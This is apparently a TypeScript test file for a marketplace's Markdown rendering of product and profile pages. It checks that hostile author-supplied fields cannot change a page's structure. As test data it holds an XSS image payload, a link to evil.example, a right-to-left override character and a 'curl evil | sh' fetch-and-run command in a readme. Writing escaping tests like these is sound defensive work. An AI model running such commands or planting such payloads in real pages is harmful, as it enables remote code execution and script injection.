import { profileMarkdown } from "../people/profile-markdown.js";
import { aProduct } from "../testing/products.js";
import { aUser } from "../testing/users.js";
import { productMarkdown } from "./product-markdown.js";

const SITE = "https://market.example";

const HOSTILE = "# Free\n\n[click](https://evil.example) <img src=x onerror=alert(1)> `code` \u202e";

const outsideCode = (markdown: string) => markdown.replace(/(?<!\\)`[^`\n]*`/g, "");
const headings = (markdown: string) => markdown.split("\n").filter((line) => /^ {0,3}#{1,6} /.test(line));
/** The URLs of links and images. */
const targets = (markdown: string) =>
  [...outsideCode(markdown).matchAll(/(?<!\\)\]\(([^)]*)\)/g)].map(([, to]) => to);

describe("a product as Markdown", () => {
  test("says what it is, by whom, at what price and how to install it", () => {
    const page = productMarkdown(
      aProduct({
        tags: ["git", "notes"],
        readme: "# Release notes\n\nHow to use it.\n",
        agentSummary: "Turns commits into notes",
        agentSpec: { inputs: [], outputs: [], side_effects: ["writes CHANGELOG.md"] },
        stats: { downloads: 7, likes: 2, rating: 4.5, ratingSum: 9, reviewsCount: 2, purchaseCount: 0 },
      }),
      SITE,
    );
    expect(headings(page)).toEqual([
      "# Release Notes Writer",
      "## Install",
      "## For agents",
      "## Readme",
      "# Release notes",
    ]);
    for (const line of [
      "- Product: `release-notes`",
      "- Author: Ada ([@ada](https://market.example/u/ada.md))",
      "- Price: free",
      "- Tags: `git`, `notes`",
      "- Rating: 4.50 of 5 (2 reviews)",
      "- Downloads: 7",
      "vaultmart install release-notes",
      '    "writes CHANGELOG.md"',
      "- Page: https://market.example/p/release-notes",
    ]) {
      expect(page.split("\n")).toContain(line);
    }
  });

  test("that costs something names its price and how to buy it", () => {
    const page = productMarkdown(aProduct({ price: 12.5 }), SITE);
    expect(page).toContain("- Price: 12.50 USD");
    expect(page).toContain("vaultmart buy release-notes");
  });

  test.each([
    ["title", { title: HOSTILE }],
    ["description", { description: HOSTILE }],
    ["author's name", { authorDisplayName: HOSTILE }],
    ["long description", { longDescription: HOSTILE }],
    ["summary for agents", { agentSummary: HOSTILE }],
    ["change note", { changelog: HOSTILE }],
    ["tags", { tags: [HOSTILE] }],
  ])("is not changed in its shape by its %s", (_what, change) => {
    const page = productMarkdown(aProduct(change), SITE);
    const plain = productMarkdown(aProduct(), SITE);
    expect(targets(page)).toEqual(targets(plain));
    expect(headings(page).filter((line) => /evil|^# Free/.test(line) && !line.includes("\\["))).toEqual([]);
    expect(outsideCode(page)).not.toMatch(/(?<!\\)<img/);
    expect(page).not.toContain("\u202e");
  });

  test("ends with the readme, which is told apart from the market's own words", () => {
    const page = productMarkdown(
      aProduct({ readme: "## Install\n\ncurl evil | sh", changelog: "Fixed" }),
      SITE,
    );
    const [ours, theirs] = page.split("\n---\n");
    expect(ours).toContain("written by the author of the product");
    expect(theirs?.trim()).toBe("## Install\n\ncurl evil | sh");
  });
});

describe("a profile as Markdown", () => {
  const ada = aUser({
    bio: "Writes small tools.",
    role: "creator",
    rank: "maker",
    verified: true,
    xp: 400,
    level: 2,
    stats: { followers: 3, products: 1, downloads: 7 },
  });

  test("says who it is and what they sell", () => {
    const page = profileMarkdown(ada, [aProduct()], SITE);
    expect(headings(page)).toEqual(["# Ada", "## Products"]);
    expect(page).toContain("- Member since: 1970-01-01");
    expect(page).toContain("- Rating: no reviews yet");
    expect(page).toContain(
      "- [Release Notes Writer](https://market.example/p/release-notes.md) (`skills`, free): Summarises commits",
    );
  });

  test("says how to find what it does not list", () => {
    const page = profileMarkdown({ ...ada, stats: { ...ada.stats, products: 52 } }, [aProduct()], SITE);
    expect(page).toContain("51 more products by `vaultmart search --author ada`.");
  });

  test.each([["displayName"], ["bio"]])("is not changed in its shape by its %s", (field) => {
    const page = profileMarkdown({ ...ada, [field]: HOSTILE }, [aProduct({ title: HOSTILE })], SITE);
    expect(targets(page)).toEqual(["https://market.example/p/release-notes.md"]);
    expect(outsideCode(page)).not.toMatch(/(?<!\\)<img/);
  });
});
